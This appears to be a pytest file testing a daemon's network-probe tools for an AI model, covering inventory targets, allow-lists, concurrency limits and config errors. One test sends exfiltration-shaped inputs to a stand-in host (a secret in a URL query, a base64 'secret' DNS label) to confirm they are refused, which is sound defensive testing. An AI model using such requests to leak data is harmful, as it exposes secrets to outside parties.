"""The tools `probe.*` of a daemon that runs: targets of its inventory, and what its configuration allows."""

from __future__ import annotations

import asyncio
import ipaddress
import json
import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import pytest

from fazai.daemon.http.auth import Principal
from fazai.daemon.probing.targets import MOST_AT_ONCE
from fazai.daemon.runs.config_file import read_daemon_config
from fazai.daemon.tools.call import ToolCall
from fazai.daemon.tools.offered.probe import TOOLS
from fazai.daemon.tools.running import observe
from fazai.errors import Errors, InputError
from fazai.loop.tools import Observation, Tool
from fazai.probes.dns import DnsServer
from tests.daemon.live import Live, live
from tests.probes.servers import answer_http, in_a_thread, serve_dns, serve_tcp

BY_NAME: dict[str, Tool] = {tool.name: tool for tool in TOOLS}
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"


def write_files(folder: Path, hosts: dict[str, Any], **probes: Any) -> Path:
    (folder / "inventory.yml").write_text(json.dumps({"all": {"hosts": hosts}}))
    config = {"runs": {"edge": {"inventory": "inventory.yml"}}, "probes": probes}
    (folder / "daemon.yml").write_text(json.dumps(config))
    return folder / "daemon.yml"


def call(daemon: Live, name: str, /, **args: Any) -> Observation:
    """Call a tool as a model's action does: its arguments are read by its type."""
    tool = BY_NAME[name]
    found = msgspec.convert(args, tool.args)
    run = observe(ToolCall(daemon.services, Principal("model", "viewer")), tool, found)
    answer: Observation = daemon.call(lambda: run)
    return answer


@pytest.fixture
def web() -> Iterator[int]:
    """The port of a web server on loopback."""
    with in_a_thread(serve_tcp(answer_http(OK))) as port:
        yield port


def test_a_target_of_the_inventory_is_asked_at_its_own_address(tmp_path: Path, web: int) -> None:
    hosts = {
        "web-01": {"ansible_host": "127.0.0.1"},
        "web-02": {"ansible_host": "{{ where }}", "where": "127.0.0.1"},
    }
    config = read_daemon_config(write_files(tmp_path, hosts, allow=["127.0.0.0/8"]))
    with live(tmp_path, config=config) as daemon:
        for host in hosts:
            found = call(daemon, "probe.tcp", host=host, port=web)
            assert (found.failed, found.note) == (False, f"{host}:{web}: it is open")
            assert found.data["address"] == "127.0.0.1"
            assert found.data["format"] == "fazai-probe/1"
        assert call(daemon, "probe.http", url=f"http://web-01:{web}/").data["facts"]["status"] == 200
        own = call(daemon, "probe.tcp", host="web-01", port=daemon.port)
        assert own == Observation(note=f"port {daemon.port} of this machine is the daemon's own", failed=True)


def test_loopback_and_strangers_are_refused(tmp_path: Path, web: int) -> None:
    config = read_daemon_config(write_files(tmp_path, {"web-01": {"ansible_host": "127.0.0.1"}}))
    with live(tmp_path, config=config) as daemon:
        found = call(daemon, "probe.tcp", host="web-01", port=web)
        assert (found.failed, found.data) == (True, None)
        assert found.note.startswith("127.0.0.1 is this machine's, its link's or nobody's")
        cases: dict[str, dict[str, Any]] = {
            "probe.tcp": {"host": "evil.example", "port": 80},
            "probe.http": {"url": "http://evil.example/?q=secret"},
            "probe.ping": {"host": "evil.example"},
            "probe.tls": {"host": "evil.example"},
            "probe.dns": {"name": "c2VjcmV0.evil.example"},
        }
        for name, args in cases.items():
            found = call(daemon, name, **args)
            assert found.failed
            assert "evil.example is no " in found.note
            assert found.note.endswith("(add it to probes: allow: in daemon.yml)")
        assert call(daemon, "probe.tcp", host="a b", port=1).note.startswith("'a b' is no host")


def test_the_inventory_is_read_again_when_it_changes(tmp_path: Path, web: int) -> None:
    config = read_daemon_config(write_files(tmp_path, {}, allow="127.0.0.1"))
    with live(tmp_path, config=config) as daemon:
        assert "is no target" in call(daemon, "probe.tcp", host="new-01", port=web).note
        write_files(tmp_path, {"new-01": {"ansible_host": "127.0.0.1"}})
        assert call(daemon, "probe.tcp", host="new-01", port=web).data["ok"]
        (tmp_path / "inventory.yml").write_text("all: {hosts: [")
        assert call(daemon, "probe.tcp", host="new-01", port=web).data["ok"]
        assert "probes do not know the inventory" in daemon.log()


def test_names_and_lists_are_asked_through_the_configured_server(tmp_path: Path) -> None:
    config = read_daemon_config(write_files(tmp_path, {}, allow=["*.example.net"], blocklists=["bl.example"]))

    async def ask(daemon: Live) -> None:
        def answers(name: str, type_: str) -> list[str]:
            if type_ == "TXT":
                return ['"why"']
            return ["127.0.0.2" if name.endswith("bl.example") else "192.0.2.1"]

        async with serve_dns(answers) as (port, _):
            server = DnsServer(ipaddress.ip_address("127.0.0.1"), port)
            targets = daemon.services.probe_targets
            targets.config = replace(targets.config, resolver=server)  # its port is known only now
            found = await asyncio.to_thread(call, daemon, "probe.dns", name="www.example.net")
            assert found.note == "www.example.net A: 192.0.2.1"
            named: dict[str, Any] = {"name": "www.example.net", "server": "127.0.0.1"}
            found = await asyncio.to_thread(call, daemon, "probe.dns", **named)
            assert found.note.startswith("127.0.0.1 is no target")
            found = await asyncio.to_thread(call, daemon, "probe.dnsbl", address="8.8.4.1")
            assert found.note == "8.8.4.1: it is on bl.example"

    with live(tmp_path, config=config) as daemon:
        asyncio.run(ask(daemon))


def test_only_so_many_are_asked_at_once(tmp_path: Path) -> None:
    config = read_daemon_config(write_files(tmp_path, {}, allow="127.0.0.1"))
    seen, open_now = [0], [0]
    enough, turn = asyncio.Event(), asyncio.Lock()

    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        open_now[0] += 1
        seen[0] = max(seen[0], open_now[0])
        if open_now[0] == MOST_AT_ONCE:
            enough.set()
        await enough.wait()  # nobody is answered before as many are here as may be, then one after the other
        async with turn:
            open_now[0] -= 1
            writer.write(OK)
            await reader.read()

    with live(tmp_path, config=config) as daemon, in_a_thread(serve_tcp(hold)) as port:

        async def ask_all() -> list[Observation]:
            tool, who = BY_NAME["probe.http"], Principal("model", "viewer")
            args = msgspec.convert({"url": f"http://127.0.0.1:{port}/", "timeout_s": 20}, tool.args)
            assert tool.run is not None
            calls = [tool.run(ToolCall(daemon.services, who), args) for _ in range(3 * MOST_AT_ONCE)]
            return await asyncio.gather(*calls)

        found = daemon.call(ask_all)
    assert [one.data["ok"] for one in found] == [True] * (3 * MOST_AT_ONCE)
    assert seen[0] == MOST_AT_ONCE


def test_the_tools_only_read_and_taint() -> None:
    assert set(BY_NAME) == {f"probe.{name}" for name in ("tcp", "http", "ping", "dns", "tls", "dnsbl")}
    for tool in TOOLS:
        assert not tool.has_effect
        assert tool.taints
    with pytest.raises(msgspec.ValidationError, match="unknown field `reach`"):
        msgspec.convert({"host": "x", "port": 1, "reach": "any"}, BY_NAME["probe.tcp"].args)


def test_a_firewall_of_the_inventory_is_known_by_its_url(tmp_path: Path) -> None:
    from fazai.daemon.probing.targets import read_host_addresses

    hosts = {
        "fw-01": {"provider": "opnsense", "base_url": "https://fw.example.net:8443/"},
        "lab-01": {"provider": "opnsense", "base_url": "lab://lab-01"},
        "h": {"ansible_host": "2001:DB8::1"},
        "Plain.example.net": None,
    }
    write_files(tmp_path, hosts)
    found = read_host_addresses([str(tmp_path / "inventory.yml")], dict(os.environ), tmp_path)
    assert found == {
        "fw-01": "fw.example.net",
        "h": "2001:db8::1",
        "plain.example.net": "plain.example.net",
    }


def test_the_configuration_says_where_it_is_wrong(tmp_path: Path) -> None:
    path = tmp_path / "daemon.yml"
    path.write_text(
        "probes:\n  allow: [10.0.0.1/8, 'a b', ok.example]\n  resolver: dns.example.net\n"
        "  blocklists: [x..y]\n  alow: [x]\n"
    )
    with pytest.raises(Errors) as raised:
        read_daemon_config(path)
    texts = [str(error) for error in raised.value.errors]
    assert [text.partition("daemon.yml:")[2].partition(":")[0] for text in texts] == ["5", "2", "3", "4"]
    assert "probes knows no 'alow'" in texts[0]
    assert "lists '10.0.0.1/8', which is no network" in texts[1]
    assert "resolver is an address, not 'dns.example.net'" in texts[2]
    assert "blocklists lists what is no name" in texts[3]
    path.write_text("probes: {allow: ['a b']}\n")
    with pytest.raises(InputError, match="lists 'a b', which is no name, address or network"):
        read_daemon_config(path)
